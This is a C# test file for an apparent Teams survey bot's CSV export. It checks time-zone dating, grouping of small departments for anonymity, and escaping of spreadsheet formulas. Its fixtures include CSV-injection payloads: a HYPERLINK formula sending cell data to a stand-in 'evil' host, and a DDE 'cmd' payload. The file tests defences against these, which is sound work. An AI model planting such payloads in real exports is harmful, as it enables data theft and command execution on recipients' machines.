using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using CsvHelper;
using TeamsDxBot.Delivery;
using TeamsDxBot.Directory;
using TeamsDxBot.FakeConnector;
using TeamsDxBot.Files;
using TeamsDxBot.Localization;
using TeamsDxBot.Pulse;
using TeamsDxBot.Reports;
using TeamsDxBot.Tests.Infrastructure;
using TeamsDxBot.Tests.Pulse;

namespace TeamsDxBot.Tests.Anonymity;

/// <summary>The pulse CSV export: the report's groups, no answer time in anonymous runs, the company's date in named ones, formulas as text.</summary>
public sealed class CsvExportTests
{
    private const string Formula = "=HYPERLINK(\"http://evil/?\"&B2,\"x\")";
    private static readonly TimeZoneInfo Tokyo = TimeZoneInfo.FindSystemTimeZoneById("Asia/Tokyo");

    private static List<string[]> Read(byte[] bytes)
    {
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        using var reader = new CsvReader(new StringReader(Encoding.UTF8.GetString(bytes[3..])), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(reader.Parser.Record!);
        }
        return rows;
    }

    private static PulseRun NamedRun => new()
    {
        TenantId = "t",
        Id = "r1",
        InitiativeId = "tool",
        ToolName = "経費精算",
        LocalTime = new DateTime(2026, 12, 7, 10, 0, 0),
        Anonymous = false,
        Questions = PulseDefaults.Questions,
        Invited = new Dictionary<string, int> { ["sales"] = 1 },
    };

    [Fact]
    public void A_named_answer_just_after_midnight_in_Tokyo_is_dated_by_the_company_clock()
    {
        // 00:57 JST on December 7th is still December 6th in UTC.
        var answered = new DateTimeOffset(2026, 12, 6, 15, 57, 0, TimeSpan.Zero);
        var rows = Read(ExportAction.Csv(Texts.Japanese, NamedRun,
            [new PulseResponse { RespondentKey = "k", DepartmentId = "sales", Name = "営業 太郎", AnsweredAt = answered, Answers = new Dictionary<string, string> { ["usage"] = "daily" } }],
            new Dictionary<string, string> { ["sales"] = "営業部" }, 5, Tokyo));

        Assert.Equal(["回", "部署", "氏名", "回答日時（Asia/Tokyo）"], rows[0][..4]);
        Assert.Equal(["2026-12-07", "営業部", "営業 太郎", "2026-12-07 00:57"], rows[1][..4]);
    }

    [Theory]
    [InlineData(Formula)]
    [InlineData("+1+2")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    public void A_cell_a_spreadsheet_would_run_is_written_as_text(string comment)
    {
        var rows = Read(ExportAction.Csv(Texts.English, NamedRun,
            [new PulseResponse { RespondentKey = "k", DepartmentId = "sales", Name = "=cmd|' /C calc'!A0", Answers = new Dictionary<string, string> { ["comment"] = comment } }],
            new Dictionary<string, string> { ["sales"] = "@sales" }, 5, Tokyo));

        // Excel shows a cell starting with an apostrophe as the text after it, and runs nothing.
        Assert.Equal("'" + comment, rows[1][^1]);
        Assert.Equal("'=cmd|' /C calc'!A0", rows[1][2]);
        Assert.Equal("'@sales", rows[1][1]);
        Assert.Equal("2026-12-07", rows[1][0]);
    }

    [Fact]
    public void Every_csv_writer_shares_the_escaping_configuration()
    {
        Assert.Equal(CsvHelper.Configuration.InjectionOptions.Escape, CsvFiles.Configuration().InjectionOptions);
        var bytes = CsvFiles.Write(csv =>
        {
            csv.WriteField("=1+1");
            csv.WriteField("plain");
            csv.NextRecord();
        });
        Assert.Equal(["'=1+1", "plain"], Read(bytes)[0]);
    }
}

/// <summary>
/// Sales 5, Plant 4 and Admin 5 people, threshold 5, everyone answers: the report folds Plant into
/// "other" and, since "other" would then be Plant alone, the smallest shown department with it; the
/// CSV must say the same.
/// </summary>
public sealed class SmallDepartmentExportTests : IAsyncLifetime
{
    private static readonly TestUser[] MoreSales = [new("aad-s3", "営業 三郎", "s3@contoso.example"), new("aad-s4", "営業 四郎", "s4@contoso.example"), new("aad-s5", "営業 五郎", "s5@contoso.example")];
    private static readonly TestUser[] Plant = Enumerable.Range(1, 4).Select(i => new TestUser($"aad-p{i}", $"製造 {i}子", $"p{i}@contoso.example")).ToArray();
    private static readonly TestUser[] MoreAdmin = Enumerable.Range(2, 4).Select(i => new TestUser($"aad-a{i}", $"総務 {i}郎", $"a{i}@contoso.example")).ToArray();
    private PulseTestKit kit = null!;
    private BotTestHost Host => kit.Host;
    private string runId = "";

    public async Task InitializeAsync()
    {
        kit = await PulseTestKit.StartAsync(new Dictionary<string, string> { ["Anonymity:Threshold"] = "5" });
        await kit.SetUpCompanyAsync([.. MoreSales, .. Plant, .. MoreAdmin]);
        var admin = (await Host.Get<DepartmentRepository>().CreateAsync(BotTestHost.TenantId, "管理部", Host.Clock.GetUtcNow(), default)).Department!.Id;
        foreach (var user in new[] { BotTestHost.Staff, BotTestHost.EnglishStaff }.Concat(MoreSales))
        {
            await kit.SetAsync(user, p => p with { DepartmentId = kit.Sales });
        }
        foreach (var user in Plant)
        {
            await kit.SetAsync(user, p => p with { DepartmentId = kit.Plant });
        }
        foreach (var user in MoreAdmin.Prepend(BotTestHost.Promoter))
        {
            await kit.SetAsync(user, p => p with { DepartmentId = admin });
        }

        var run = await Host.Get<PulseScheduler>().RunNowAsync(kit.Tool, default);
        runId = run!.Id;
        await Host.Get<DeliveryEngine>().RunAsync(untilIdle: true, default);
        foreach (var user in new[] { BotTestHost.Staff, BotTestHost.EnglishStaff }.Concat(MoreSales).Concat(MoreAdmin).Append(BotTestHost.Promoter))
        {
            await kit.SubmitAsync(user, kit.LastSurveyData(user), PulseTestKit.Answers("daily", "4"));
        }
        // Plant: nobody used it, and one says so in a formula.
        foreach (var user in Plant)
        {
            await kit.SubmitAsync(user, kit.LastSurveyData(user), PulseTestKit.Answers(PulseRoles.NotUsed, "1", "yes", "slower",
                comment: user == Plant[0] ? "=HYPERLINK(\"http://evil/?\"&B2,\"x\")" : "紙のほうが早い"));
        }
        // Friday 10:05 JST: the run closes and the weekly report goes out.
        Host.Clock.SetUtcNow(new DateTimeOffset(2026, 11, 27, 1, 5, 0, TimeSpan.Zero));
        await kit.TickAsync();
    }

    public async Task DisposeAsync() => await Host.DisposeAsync();

    private static string Link(RecordedCall call) => Regex.Unescape(Regex.Match(call.Card!.ToJsonString(), "\"url\":\"(http[^\"]+)\"").Groups[1].Value);

    [Fact]
    public async Task The_csv_groups_are_the_reports_groups_and_plant_is_not_other_on_its_own()
    {
        var report = Host.SentTo(BotTestHost.Promoter).Last(c => c.AllText.Contains("週次レポート", StringComparison.Ordinal)).AllText;
        Assert.Contains("回答 14/14人", report);
        // Sales and Admin are both the smallest shown department (5): one of them joins Plant in "other".
        var shown = report.Contains("管理部", StringComparison.Ordinal) ? "管理部" : "営業部";
        var joined = shown == "管理部" ? "営業部" : "管理部";
        Assert.Contains(shown + "\n順調\n100%\n5/5", report);
        Assert.Contains("その他（少人数の部署をまとめて集計）", report);
        Assert.Contains("100%\n9/9", report);
        Assert.DoesNotContain(joined, report);
        Assert.DoesNotContain("製造部", report);

        await Host.SubmitAsync(BotTestHost.Promoter, new { verb = ReportCards.ExportVerb, runId });
        var reply = Host.SentTo(BotTestHost.Promoter).Last();
        Assert.Contains("14件の回答をCSVにしました", reply.AllText);
        using var client = Host.CreateClient();
        var bytes = await client.GetByteArrayAsync(new Uri(Link(reply)).PathAndQuery);
        using var reader = new CsvReader(new StringReader(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(reader.Parser.Record!);
        }

        Assert.Equal(["回", "部署"], rows[0][..2]);
        Assert.DoesNotContain(rows[0], h => h.StartsWith("回答日", StringComparison.Ordinal));
        var groups = rows.Skip(1).GroupBy(r => r[1]).ToDictionary(g => g.Key, g => g.Count());
        Assert.Equal(new Dictionary<string, int> { [shown] = 5, ["その他（少人数の部署をまとめて集計）"] = 9 }, groups);
        // "Other" is not Plant's answers alone: it holds the five of the department that joined it.
        var other = rows.Skip(1).Where(r => r[1].StartsWith("その他", StringComparison.Ordinal)).ToList();
        Assert.Equal(4, other.Count(r => r.Contains("使わなかった")));
        Assert.Equal(5, other.Count(r => r.Contains("毎日")));
        // The formula reaches the promoter's Excel as text.
        Assert.Contains(other, r => r[^1] == "'=HYPERLINK(\"http://evil/?\"&B2,\"x\")");
        Assert.All(rows.Skip(1), r => Assert.Equal("2026-11-24", r[0]));
    }
}
